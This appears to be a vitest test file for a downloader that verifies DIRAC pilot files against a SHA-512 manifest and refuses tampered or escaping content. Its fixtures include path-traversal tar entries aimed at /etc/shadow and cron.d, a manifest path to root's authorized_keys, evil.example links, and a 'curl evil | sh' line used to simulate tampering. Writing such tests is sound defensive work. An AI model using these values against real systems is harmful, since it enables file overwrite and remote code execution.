import { lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { downloadPilotDirectory, verifiedPilotFiles, type PilotDownloadOptions, type PilotDownloadResult } from "../../src/pilot/download.ts";
import { RECORD_NAME } from "../../src/pilot/record.ts";
import { closedPort } from "../support/closed-port.ts";
import { makeTar, startPilotServer, type PilotServer, type PilotServerOptions } from "../support/pilot-server.ts";
import { makeTlsFixtures, type TlsFixtures } from "../support/tls-fixtures.ts";

let fx: TlsFixtures;
const servers: PilotServer[] = [];
const dirs: string[] = [];

beforeAll(async () => {
  fx = await makeTlsFixtures();
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});
afterAll(async () => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
  await fx.cleanup();
});

/** A small pilot directory as DIRAC publishes it, plus a hook outside pilot.tar. */
const PILOT: Record<string, string> = {
  "dirac-pilot.py": "#!/usr/bin/env python\nimport pilotTools\n" + "# pilot\n".repeat(500),
  "pilotCommands.py": "class CheckWorkerNode:\n    pass\n".repeat(400),
  "pilotTools.py": "def getOptions():\n    return []\n".repeat(600),
  "proxyTools.py": "import ssl\n".repeat(100),
  "pilot.json": JSON.stringify({ timestamp: "2024-05-14T09:12:00", Setups: { LHCb: { Commands: {} } } }),
  "include_vm_test.sh": "export DIRAC_OPTS=--debug\n",
};

async function serve(o: Partial<PilotServerOptions> = {}): Promise<PilotServer> {
  const s = await startPilotServer({ tls: { ca: fx.caPem, cert: fx.serverCertPem, key: fx.serverKeyPem }, files: PILOT, ...o });
  servers.push(s);
  return s;
}

function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), "pilot-dl-"));
  dirs.push(d);
  return join(d, "pilot");
}

interface Run {
  r: PilotDownloadResult;
  dir: string;
  log: string[];
}

async function download(urls: string[], o: Partial<PilotDownloadOptions> = {}): Promise<Run> {
  const log: string[] = [];
  const dir = o.dir ?? tempDir();
  const r = await downloadPilotDirectory({
    urls,
    dir,
    tls: { caDir: fx.caDir },
    requireManifest: true,
    concurrency: 4,
    retries: 2,
    timeoutMs: 3000,
    log: (l) => log.push(l),
    ...o,
  });
  return { r, dir, log };
}

const pilotFiles = (dir: string) => readdirSync(dir).filter((n) => !n.startsWith(".")).sort();
const modeOf = (path: string) => lstatSync(path).mode & 0o7777;
const requested = (s: PilotServer) => s.requests.map((q) => q.path);
const failure = (r: PilotDownloadResult) => (r.ok ? { code: 0, error: "ok" } : { code: r.code, error: r.error });

describe("downloadPilotDirectory with checksums.sha512", () => {
  it("takes the .py files from a verified pilot.tar, fetches the rest, writes only listed files", async () => {
    const s = await serve();
    const { r, dir, log } = await download([s.url]);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.source).toBe("pilot.tar");
    expect(r.url).toBe(s.url);
    const listed = [...s.published.keys()].filter((n) => n !== "checksums.sha512").sort();
    expect(r.files.map((f) => f.name).sort()).toEqual(listed);
    expect(r.files.every((f) => f.verified)).toBe(true);
    expect(pilotFiles(dir)).toEqual(listed);
    for (const name of listed) expect(readFileSync(join(dir, name))).toEqual(s.published.get(name));
    // The .py files came out of pilot.tar: never asked for one by one.
    expect(requested(s).filter((p) => p.endsWith(".py"))).toEqual([]);
    expect(modeOf(join(dir, "dirac-pilot.py"))).toBe(0o755);
    expect(modeOf(join(dir, "include_vm_test.sh"))).toBe(0o755);
    expect(modeOf(join(dir, "pilot.json"))).toBe(0o644);
    expect(log).toContain(`pilot: dirac-pilot.py ${PILOT["dirac-pilot.py"]!.length} bytes sha512 ok (from pilot.tar)`);
    expect(log.some((l) => /^pilot: include_vm_test\.sh 26 bytes sha512 ok \d+ ms$/.test(l))).toBe(true);
    expect(verifiedPilotFiles(dir)).toEqual(listed);
    expect(r.durationMs).toBeGreaterThan(0);
  });

  it("fetches each listed file when the manifest lists no pilot.tar", async () => {
    const s = await serve({ tar: false });
    const { r, dir } = await download([s.url]);
    expect(r.ok && r.source).toBe("manifest");
    expect(pilotFiles(dir)).toEqual(Object.keys(PILOT).sort());
    for (const name of Object.keys(PILOT)) expect(requested(s)).toContain(`/pilot/${name}`);
  });

  it("uses a tar member only when it matches its own line, else fetches that file", async () => {
    const stale = makeTar([
      { name: "dirac-pilot.py", data: "# an older pilot\n" },
      { name: "proxyTools.py", data: PILOT["proxyTools.py"]! },
      { name: "unlisted.py", data: "x" },
    ]);
    const s = await serve({ tar: false, files: { ...PILOT, "pilot.tar": stale } });
    const { r, dir, log } = await download([s.url]);
    expect(r.ok && r.source).toBe("pilot.tar");
    expect(readFileSync(join(dir, "dirac-pilot.py"), "utf8")).toBe(PILOT["dirac-pilot.py"]);
    expect(requested(s)).toContain("/pilot/dirac-pilot.py");
    expect(requested(s)).not.toContain("/pilot/proxyTools.py");
    expect(pilotFiles(dir)).not.toContain("unlisted.py");
    expect(log).toContain("pilot: pilot.tar member dirac-pilot.py does not match checksums.sha512; fetching the file itself");
    expect(log).toContain("pilot: pilot.tar member unlisted.py ignored: not listed in checksums.sha512");
  });

  it.each([
    ["a symlink", makeTar([{ name: "dirac-pilot.py", type: "2", linkname: "/etc/shadow" }]), /pilot\.tar: entry "dirac-pilot.py" is a symbolic link/],
    ["an escaping name", makeTar([{ name: "../../etc/cron.d/x", data: "* * * * * root sh" }]), /pilot\.tar: entry "..\/..\/etc\/cron.d\/x": expected a file name/],
  ])("refuses a verified pilot.tar holding %s (600), writing nothing", async (_what, tar, error) => {
    const s = await serve({ tar: false, files: { ...PILOT, "pilot.tar": tar } });
    const { r, dir } = await download([s.url]);
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(error) });
    expect(pilotFiles(dir)).toEqual([]);
  });

  it("refuses the whole set when a file does not match, after fetching the set a second time (600)", async () => {
    const s = await serve({ tar: false, faults: { tampered: { "pilotTools.py": Infinity } } });
    const { r, dir, log } = await download([s.url]);
    expect(failure(r)).toEqual({
      code: 600,
      error: expect.stringMatching(/pilotTools\.py: SHA-512 [0-9a-f]{16}… does not match checksums\.sha512 \([0-9a-f]{16}…\) \(also on a second fetch of the whole set\)/),
    });
    expect(log.some((l) => l.includes("fetching the whole set again"))).toBe(true);
    expect(requested(s).filter((p) => p === "/pilot/checksums.sha512")).toHaveLength(2);
    expect(pilotFiles(dir)).toEqual([]); // not even the files that matched
    expect(verifiedPilotFiles(dir)).toEqual([]);
  });

  it("refuses a tampered pilot.tar (600)", async () => {
    const s = await serve({ faults: { tampered: { "pilot.tar": Infinity } } });
    const { r } = await download([s.url]);
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/pilot\.tar: SHA-512 .* does not match/) });
  });

  it("succeeds when a mismatch was mid-publish: the second fetch of the set matches", async () => {
    const s = await serve({ faults: { tampered: { "pilot.json": 2 } } }); // speculative and normal fetch
    const { r, dir, log } = await download([s.url]);
    expect(r.ok).toBe(true);
    expect(readFileSync(join(dir, "pilot.json"), "utf8")).toBe(PILOT["pilot.json"]);
    expect(log.some((l) => l.includes("fetching the whole set again"))).toBe(true);
  });

  it("refuses a set with a listed file missing (600)", async () => {
    const s = await serve({ faults: { missing: ["include_vm_test.sh"] } });
    const { r, dir } = await download([s.url]);
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/include_vm_test\.sh is listed in checksums\.sha512 but not published \(HTTP 404\)/) });
    expect(pilotFiles(dir)).toEqual([]);
  });

  it("names the manifest line that is not a flat file name (600)", async () => {
    const s = await serve({ tar: false });
    s.setFaults({ manifestText: `${"0".repeat(128)}  dirac-pilot.py\n${"1".repeat(128)}  ../../root/.ssh/authorized_keys\n` });
    const { r } = await download([s.url]);
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/checksums\.sha512 line 2: expected a file name in the pilot directory, found a path/) });
    expect(requested(s).some((p) => p.includes("authorized_keys"))).toBe(false);
  });

  it("accepts the pinned manifest and refuses another one (600)", async () => {
    const s = await serve();
    expect((await download([s.url], { manifestSha512: s.manifestSha512.toUpperCase() })).r.ok).toBe(true);
    const { r, log } = await download([s.url], { manifestSha512: "ab".repeat(64) });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/checksums\.sha512 has SHA-512 [0-9a-f]{16}…, not the pinned abababababababab…/) });
    expect(log.some((l) => l.includes("fetching the whole set again"))).toBe(false);
  });

  it("refuses a directory without checksums.sha512 when one is required (600)", async () => {
    const s = await serve({ manifest: false });
    const { r } = await download([s.url]);
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/checksums\.sha512 is not published \(HTTP 404\) and the configuration requires it/) });
  });
});

describe("downloadPilotDirectory from the directory listing", () => {
  it.each(["apache", "nginx"] as const)("fetches the files a %s autoindex page links to, unverified", async (listing) => {
    const s = await serve({ manifest: false, tar: false, listing });
    const { r, dir, log } = await download([s.url], { requireManifest: false });
    expect(r.ok && r.source).toBe("listing");
    if (!r.ok) return;
    expect(r.files.map((f) => f.name).sort()).toEqual(Object.keys(PILOT).sort());
    expect(r.files.every((f) => !f.verified && /^[0-9a-f]{128}$/.test(f.sha512))).toBe(true);
    expect(pilotFiles(dir)).toEqual(Object.keys(PILOT).sort());
    expect(verifiedPilotFiles(dir)).toEqual([]); // no hook may run from such a directory
    expect(log.some((l) => /^pilot: dirac-pilot\.py \d+ bytes not verified \(no checksums\.sha512\) \d+ ms$/.test(l))).toBe(true);
  });

  it("never leaves the directory: parent, other paths, other hosts, queries and subdirectories are ignored", async () => {
    const secret = "root:x:0:0\n";
    const s = await serve({
      manifest: false,
      tar: false,
      outside: { "/secret.py": secret, "/other/x.py": secret, "/pilot/sub/x.py": secret },
      faults: {
        extraHrefs: ["../secret.py", "/secret.py", "/other/x.py", "%2e%2e/secret.py", "sub/", "sub/x.py", "https://evil.example/pilot/x.py", "//evil.example/y.py", "x.py?C=N;O=D", ".hidden"],
      },
    });
    const { r, dir } = await download([s.url], { requireManifest: false });
    expect(r.ok).toBe(true);
    expect(pilotFiles(dir)).toEqual(Object.keys(PILOT).sort());
    const outside = requested(s).filter((p) => !p.startsWith("/pilot/") || p.slice("/pilot/".length).includes("/"));
    expect(outside).toEqual([]);
    expect(requested(s).filter((p) => p.includes("secret") || p.includes("evil") || p.includes("hidden") || p.includes("?"))).toEqual([]);
  });

  it("fails with 600 when the listing links only outside the directory", async () => {
    const s = await serve({ manifest: false, tar: false, files: {}, faults: { extraHrefs: ["../secret.py", "https://evil.example/x.py"] } });
    const { r } = await download([s.url], { requireManifest: false });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/the directory listing links to no file inside the directory/) });
  });

  it("fails with 600 when there is neither a manifest nor a listing", async () => {
    const s = await serve({ manifest: false, listing: "none" });
    const { r } = await download([s.url], { requireManifest: false });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/directory listing: HTTP 403/) });
  });
});

describe("downloadPilotDirectory: transport", () => {
  it("retries 500s with backoff and succeeds", async () => {
    const s = await serve({ tar: false, faults: { errors: { "checksums.sha512": 2, "pilotTools.py": 1 } } });
    const { r, log } = await download([s.url]);
    expect(r.ok).toBe(true);
    expect(log.filter((l) => /^pilot: checksums\.sha512: HTTP 500, retry \d\/2 in \d+ ms$/.test(l))).toHaveLength(2);
    expect(log.some((l) => l.startsWith("pilot: pilotTools.py: HTTP 500, retry 1/2"))).toBe(true);
  });

  it("gives up after the retries (600)", async () => {
    const s = await serve({ tar: false, faults: { errors: { "pilotTools.py": 10 } } });
    const { r } = await download([s.url], { retries: 1 });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/pilotTools\.py: HTTP 500 after 2 attempts/) });
  });

  it("bounds each file by the timeout (600) and waits for a slow file within it", async () => {
    const s = await serve({ tar: false, faults: { slowMs: { "pilotTools.py": 1500 } } });
    const slowOk = await download([s.url], { timeoutMs: 4000 });
    expect(slowOk.r.ok).toBe(true);
    const t = performance.now();
    const { r } = await download([s.url], { timeoutMs: 400, retries: 0 });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/pilotTools\.py: .*no complete answer within 400 ms/) });
    expect(performance.now() - t).toBeLessThan(1500);
  });

  it("reuses kept-alive connections: far fewer TCP connections than files", async () => {
    const files = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`module${i}.py`, `# module ${i}\n`.repeat(50 + i)]));
    const s = await serve({ tar: false, files });
    const { r, dir } = await download([s.url], { concurrency: 4 });
    expect(r.ok && r.files.length).toBe(40);
    expect(pilotFiles(dir)).toHaveLength(40);
    expect(s.requests.length).toBeGreaterThanOrEqual(41);
    expect(s.connections()).toBeLessThanOrEqual(4);
  });

  it("presents the client certificate when the server requires one", async () => {
    const s = await serve({ tls: { ca: fx.caPem, cert: fx.serverCertPem, key: fx.serverKeyPem, requestCert: true } });
    const { r } = await download([s.url], { tls: { caDir: fx.caDir, cert: fx.clientCertPem, key: fx.clientKeyPem } });
    expect(r.ok).toBe(true);
    expect(s.requests.every((q) => q.clientCn === fx.clientCn)).toBe(true);
  });

  it("fails with 500 without the client certificate the server requires", async () => {
    const s = await serve({ tls: { ca: fx.caPem, cert: fx.serverCertPem, key: fx.serverKeyPem, requestCert: true } });
    const { r } = await download([s.url], { retries: 0 });
    expect(failure(r)).toEqual({ code: 500, error: expect.stringMatching(/checksums\.sha512: connection closed by the server \(the server may have refused the client certificate\)/) });
    expect(s.requests).toEqual([]);
  });

  it("fails with 500 when the server's certificate does not verify against the CA directory", async () => {
    const s = await serve();
    const { r } = await download([s.url], { tls: { caDir: fx.wrongCaDir } });
    expect(failure(r)).toEqual({ code: 500, error: expect.stringMatching(/TLS failure \((SELF_SIGNED_CERT_IN_CHAIN|UNABLE_TO_VERIFY_LEAF_SIGNATURE|UNABLE_TO_GET_ISSUER_CERT_LOCALLY)\)/) });
    expect(s.requests).toEqual([]);
  });

  it("fails with 500 when every mirror refuses the connection", async () => {
    const urls = [`https://127.0.0.1:${await closedPort()}/pilot/`, `https://127.0.0.1:${await closedPort()}/pilot/`];
    const { r } = await download(urls, { retries: 1 });
    expect(failure(r)).toEqual({ code: 500, error: expect.stringMatching(/connection refused.*; .*connection refused/) });
  });

  it("falls back to the next mirror, and reports 600 when a server answered wrongly", async () => {
    const bad = await serve({ faults: { missing: ["pilot.json"] } });
    const good = await serve();
    const down = `https://127.0.0.1:${await closedPort()}/pilot/`;
    const ok = await download([down, bad.url, good.url], { retries: 0 });
    expect(ok.r.ok && ok.r.url).toBe(good.url);
    const { r } = await download([down, bad.url], { retries: 0 });
    expect(failure(r)).toEqual({ code: 600, error: expect.stringMatching(/connection refused.*pilot\.json is listed in checksums\.sha512 but not published/) });
  });

  it.each([
    [[], /no pilot directory URL configured/],
    [["not a url"], /not a valid URL/],
    [["ftp://127.0.0.1/pilot/"], /expected an https URL/],
  ])("fails with 500 on URLs %j", async (urls, error) => {
    const { r } = await download(urls);
    expect(failure(r)).toEqual({ code: 500, error: expect.stringMatching(error) });
  });

  it("survives nonsense numbers: NaN concurrency, negative retries", async () => {
    const s = await serve({ tar: false });
    const { r } = await download([s.url], { concurrency: Number.NaN, retries: -3, timeoutMs: Number.NaN });
    expect(r.ok).toBe(true);
  });

  it("sends URL credentials as Authorization and never shows them", async () => {
    const s = await serve();
    const url = s.url.replace("https://", "https://pilot:s3cr3t@");
    const { r, log, dir } = await download([url]);
    expect(r.ok && r.url).toBe(s.url);
    expect(s.requests[0]!.authorization).toBe(`Basic ${Buffer.from("pilot:s3cr3t").toString("base64")}`);
    const down = `https://pilot:s3cr3t@127.0.0.1:${await closedPort()}/pilot/`;
    const failed = await download([down], { retries: 0 });
    expect(failure(failed.r).code).toBe(500);
    const everything = JSON.stringify([r, log, failed.r, failed.log, readFileSync(join(dir, RECORD_NAME), "utf8")]);
    expect(everything).not.toContain("s3cr3t");
  });
});

describe("downloadPilotDirectory: the directory", () => {
  it("removes what an earlier download wrote, keeps other files, owns files as asked", async () => {
    const dir = tempDir();
    const first = await serve({ files: { ...PILOT, "old_hook.py": "print(1)\n" } });
    expect((await download([first.url], { dir })).r.ok).toBe(true);
    writeFileSync(join(dir, "operator-notes.txt"), "kept\n");
    writeFileSync(join(dir, ".pilot-tmp-0123456789ab-3"), "half-written");
    const second = await serve();
    const owned = process.getuid?.() === 0 ? { uid: 4242, gid: 4343 } : {};
    const { r } = await download([second.url], { dir, ...owned });
    expect(r.ok).toBe(true);
    expect(pilotFiles(dir)).not.toContain("old_hook.py");
    expect(pilotFiles(dir)).toContain("operator-notes.txt");
    expect(readdirSync(dir).filter((n) => n.startsWith(".pilot-tmp-"))).toEqual([]);
    if (owned.uid !== undefined) {
      expect(lstatSync(join(dir, "pilot.json"))).toMatchObject({ uid: 4242, gid: 4343 });
      expect(lstatSync(dir)).toMatchObject({ uid: 0 }); // existed already: left alone
    }
  });

  it("leaves nothing under a final name when a later download fails", async () => {
    const dir = tempDir();
    const s = await serve();
    expect((await download([s.url], { dir })).r.ok).toBe(true);
    s.setFaults({ tampered: { "pilot.tar": Infinity } });
    expect((await download([s.url], { dir })).r.ok).toBe(false);
    expect(pilotFiles(dir)).toEqual([]);
    expect(verifiedPilotFiles(dir)).toEqual([]);
  });

  it("verifiedPilotFiles drops a file changed after the download", async () => {
    const s = await serve();
    const { dir } = await download([s.url]);
    expect(verifiedPilotFiles(dir)).toContain("include_vm_test.sh");
    writeFileSync(join(dir, "include_vm_test.sh"), "curl evil | sh\n");
    expect(verifiedPilotFiles(dir)).not.toContain("include_vm_test.sh");
    expect(verifiedPilotFiles(join(dir, "nowhere"))).toEqual([]);
  });
});
